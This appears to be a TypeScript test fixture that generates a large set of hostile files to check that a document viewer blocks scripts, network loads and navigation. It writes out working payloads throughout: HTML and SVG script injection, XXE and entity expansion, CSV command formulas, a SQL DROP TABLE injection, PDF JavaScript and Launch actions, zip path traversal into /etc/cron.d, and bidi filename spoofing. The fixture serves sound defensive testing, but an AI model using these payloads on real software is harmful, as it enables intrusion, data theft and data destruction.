import { hostileOffice } from "./hostileOffice";
import { pdfWith, streamOf } from "./pdf";
import { zipOf } from "./zip";

/** How a file is to be shown: as plain text, as a picture, as pages, or not at all. */
export type Showing = "text" | "message" | "image" | "pages" | "none";

export interface HostileFile {
  name: string;
  content: string | Buffer;
  showing: Showing;
}

/** What scripts would call: the test has put it into every frame. */
const call = (who: string) => `pwned('${who}')`;

const pages = (address: string): Record<string, string | Buffer> => ({
  "script.html": `<!DOCTYPE html><script>${call("script.html")};fetch('${address}')</script>`,
  "handlers.html": `<html><body onload="${call("handlers.html")}"><img src=x onerror="${call("handlers.html")}"><video><source onerror="${call("handlers.html")}"></video>`,
  "frames.html": `<html><iframe srcdoc="<script>parent.${call("frames.html")}</script>"></iframe><iframe src="javascript:parent.${call("frames.html")}"></iframe>`,
  "refresh.html": `<html><meta http-equiv="refresh" content="0;url=${address}/refresh"><base href="${address}/"><a href="x">x</a>`,
  "form.html": `<html><form id="f" action="${address}/form"><input name="a"></form><script>f.submit()</script>`,
  "loads.html": `<html><link rel="stylesheet" href="${address}/a.css"><link rel="prefetch" href="${address}/b"><img src="${address}/c.png"><object data="${address}/d.swf"></object>`,
  "dialog.html": "<html><script>alert(1);confirm(2);prompt(3);print()</script>",
  "page.xhtml": `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${call("page.xhtml")}</script></html>`,
  "stylesheet.xml": `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${address}/a.xsl"?><a xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${call("stylesheet.xml")}</h:script></a>`,
  "entities.xml": `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "${address}/e"><!ENTITY c "${"x".repeat(1000)}">]><a>&b;${"&c;".repeat(100)}</a>`,
  "archive.mht": `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"; type="text/html"\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Location: ${address}/\r\n\r\n<script>${call("archive.mht")}</script>\r\n--b--\r\n`,
  "script.js": `${call("script.js")};import('${address}/m.js')`,
  "style.css": `@import url(${address}/a.css);body{background:url(${address}/b.png);behavior:url(x.htc)}`,
  "wide.html": Buffer.from(`\ufeff<html><script>${call("wide.html")}</script>`, "utf16le"),
  "shifted.txt": `+ADw-script+AD4-${call("shifted.txt")}+ADw-/script+AD4-`,
});

const texts = (address: string): Record<string, string | Buffer> => ({
  "directions.txt": "invoice\u202Efdp.exe\u202C \u2066left\u2069 \u200Fright \u061C \u2068end",
  "terminal.txt":
    "\u001b[2J\u001b[31mred\u001b[0m \u001b]8;;http://127.0.0.1\u001b\\\\link\u001b]8;;\u001b\\\\ \u009b5n",
  "zero.txt": `a\u200Bb\uFEFFc\u00ADd\u2028e\u2029f${"\u0300".repeat(5000)}`,
  "line.log": "x".repeat(300_000),
  "formulas.csv": `=cmd|'/c calc'!A1,+1+1,-1,@SUM(1)\n"=HYPERLINK(""${address}/h"",""x"")",<script>${call("formulas.csv")}</script>\n`,
  "notes.md": `[x](javascript:${call("notes.md")}) ![y](${address}/y.png) <img src=x onerror=${call("notes.md")}>\n`,
  "data.json": `{"__proto__":{"a":1},"x":"</script><script>${call("data.json")}</script>"}`,
  "card.vcf": `BEGIN:VCARD\r\nVERSION:3.0\r\nFN:<b onmouseover=${call("card.vcf")}>x</b>\r\nPHOTO;VALUE=URI:${address}/p.png\r\nURL:javascript:${call("card.vcf")}\r\nEND:VCARD\r\n`,
  "date.ics": `BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nATTACH:${address}/a\r\nSUMMARY:<script>${call("date.ics")}</script>\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n`,
  "shortcut.ini": `[InternetShortcut]\r\nURL=file://127.0.0.1/share/x.exe\r\nIconFile=${address}/i.ico\r\n`,
  "query.sql": `'; DROP TABLE documents; -- <svg onload=${call("query.sql")}>`,
});

const svg = (inside: string, attributes = "") =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="40" ${attributes}><rect width="90" height="40" fill="teal"/>${inside}</svg>`;

const drawings = (address: string): Record<string, string> => ({
  "script.svg": svg(`<script>${call("script.svg")}</script><script href="${address}/s.js"/>`),
  "handler.svg": svg(
    "<text y='9'>x</text>",
    `onload="${call("handler.svg")}" onclick="${call("handler.svg")}"`,
  ),
  "foreign.svg": svg(
    `<foreignObject width="90" height="40"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:${call("foreign.svg")}"/><script>${call("foreign.svg")}</script></body></foreignObject>`,
  ),
  "animate.svg": svg(
    `<a><text y="9">x</text><animate attributeName="href" values="javascript:${call("animate.svg")}" begin="0s"/></a><set attributeName="onmouseover" to="${call("animate.svg")}"/>`,
  ),
  "use.svg": svg(
    `<use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'>&lt;script>${call("use.svg")}&lt;/script>&lt;/svg>#x"/>`,
  ),
  "image.svg": svg(
    `<image href="${address}/i.png" width="9" height="9"/><image href="file:///etc/passwd" width="9" height="9"/>`,
  ),
  "style.svg": svg(`<style>@import url(${address}/a.css);rect{fill:url(${address}/b.svg#p)}</style>`),
  "link.svg": svg(
    `<a href="javascript:${call("link.svg")}" target="_top"><rect width="90" height="40"/></a>`,
  ),
  "sheet.svg": `<?xml version="1.0"?><?xml-stylesheet href="${address}/a.css"?>${svg("")}`,
});

const PNG = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
  "base64",
);
const GIF = Buffer.from("R0lGODlhAQABAAAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==", "base64");

const pictures: Record<string, string | Buffer> = {
  "script.gif": `GIF89a/*${"\u0000".repeat(20)}*/=0;${call("script.gif")}`,
  "page.gif": Buffer.concat([GIF, Buffer.from(`<html><script>${call("page.gif")}</script>`)]),
  "page.png": Buffer.concat([PNG, Buffer.from(`<script>${call("page.png")}</script>`)]),
};

/** Files that are not what they are called. */
const impostors: Record<string, string | Buffer> = {
  "bell.txt": "\u001b]0;owned\u0007\u0000",
  "page.jpg": `<html><script>${call("page.jpg")}</script>`,
  "script.bmp": `BM=0;${call("script.bmp")}//`,
  "page.webp": `RIFF____WEBP<script>${call("page.webp")}</script>`,
  "page.pdf": `<html><script>${call("page.pdf")}</script>`,
  "page.doc": `<html><script>${call("page.doc")}</script>`,
  "late.html": `<script>${call("late.html")}</script>${pdfWith({})}`,
  "archive.zip": zipOf({
    "../../../etc/cron.d/x": "x",
    "index.html": `<script>${call("archive.zip")}</script>`,
  }),
};

const js = (who: string) => `<< /S /JavaScript /JS (app.alert(1); ${call(who).replace(/[()]/g, "\\$&")}) >>`;

const annotation = (action: string) =>
  `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /Border [0 0 0] /A ${action} >>]`;

const papers = (address: string): Record<string, string> => ({
  "open.pdf": pdfWith({ catalogue: `/OpenAction ${js("open.pdf")}` }),
  "names.pdf": pdfWith({ catalogue: `/Names << /JavaScript << /Names [(a) ${js("names.pdf")}] >> >>` }),
  "events.pdf": pdfWith({
    catalogue: `/AA << /WC ${js("events.pdf")} >>`,
    page: `/AA << /O ${js("events.pdf")} >>`,
  }),
  "launch.pdf": pdfWith({ catalogue: "/OpenAction << /S /Launch /F (calc.exe) /NewWindow true >>" }),
  "address.pdf": pdfWith({ catalogue: `/OpenAction << /S /URI /URI (${address}/open) >>` }),
  "link.pdf": pdfWith({ page: annotation("<< /S /URI /URI (javascript:pwned\\('link.pdf'\\)) >>") }),
  "remote.pdf": pdfWith({
    page: annotation("<< /S /GoToR /F (\\\\\\\\127.0.0.1\\\\share\\\\a.pdf) /D [0 /Fit] >>"),
  }),
  "submit.pdf": pdfWith({
    catalogue: `/OpenAction << /S /SubmitForm /F << /FS /URL /F (${address}/submit) >> >>`,
  }),
  "print.pdf": pdfWith({ catalogue: "/OpenAction << /S /Named /N /Print >>" }),
  "attached.pdf": pdfWith({
    catalogue: "/Names << /EmbeddedFiles << /Names [(x.html) 6 0 R] >> >>",
    more: [
      "<< /Type /Filespec /F (x.html) /EF << /F 7 0 R >> >>",
      streamOf(`<script>${call("attached.pdf")}</script>`, "/Type /EmbeddedFile "),
    ],
  }),
  "xfa.pdf": pdfWith({
    catalogue: "/AcroForm << /Fields [] /XFA 6 0 R >>",
    more: [
      streamOf(
        `<!DOCTYPE x [<!ENTITY e SYSTEM "${address}/xxe">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script>${call("xfa.pdf")}</script>&e;</template></xdp:xdp>`,
      ),
    ],
  }),
  // A matrix whose last number is a text was once pasted into code.
  "font.pdf": pdfWith({
    font: "<< /Type /Font /Subtype /Type1 /BaseFont /F /FirstChar 65 /LastChar 65 /Widths [9] /FontMatrix [1 2 3 4 5 (1\\); pwned\\('font.pdf'\\) //)] /FontDescriptor 6 0 R >>",
    more: [
      "<< /Type /FontDescriptor /FontName /F /Flags 4 /FontBBox [0 0 9 9] /ItalicAngle 0 /Ascent 9 /Descent 0 /CapHeight 9 /StemV 9 /FontFile 7 0 R >>",
      streamOf(
        "%!PS-AdobeFont-1.0: F\n/FontMatrix [1 2 3 4 5 (1\\); pwned\\('font.pdf'\\) //)] readonly def\n/Encoding StandardEncoding def\ncurrentfile eexec\n",
        "/Length1 120 /Length2 0 /Length3 0 ",
      ),
    ],
  }),
  "film.pdf": pdfWith({
    page: `/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 99 99] /RichMediaContent << /Assets << /Names [(x.swf) << /Type /Filespec /FS /URL /F (${address}/x.swf) >>] >> >> >>]`,
  }),
});

const letters = (address: string): Record<string, string> => ({
  "letter.eml": `From: a@example.com\r\nContent-Type: text/html\r\n\r\n<img src="${address}/pixel.gif"><script>${call("letter.eml")}</script>`,
});

/** Files that would run something, reach for an address, or lead away, if anything let them. */
export function hostileFiles(address: string): HostileFile[] {
  const shown = (showing: Showing, contents: Record<string, string | Buffer>) =>
    Object.entries(contents).map(([name, content]) => ({ name, content, showing }));
  return [
    ...shown("text", pages(address)),
    ...shown("text", texts(address)),
    ...shown("message", letters(address)),
    ...shown("image", drawings(address)),
    ...shown("image", pictures),
    ...shown("none", impostors),
    ...shown("pages", papers(address)),
    ...shown("pages", hostileOffice(address)),
  ].map((file, index) => ({ ...file, name: `${String(index + 10)} ${file.name}` }));
}
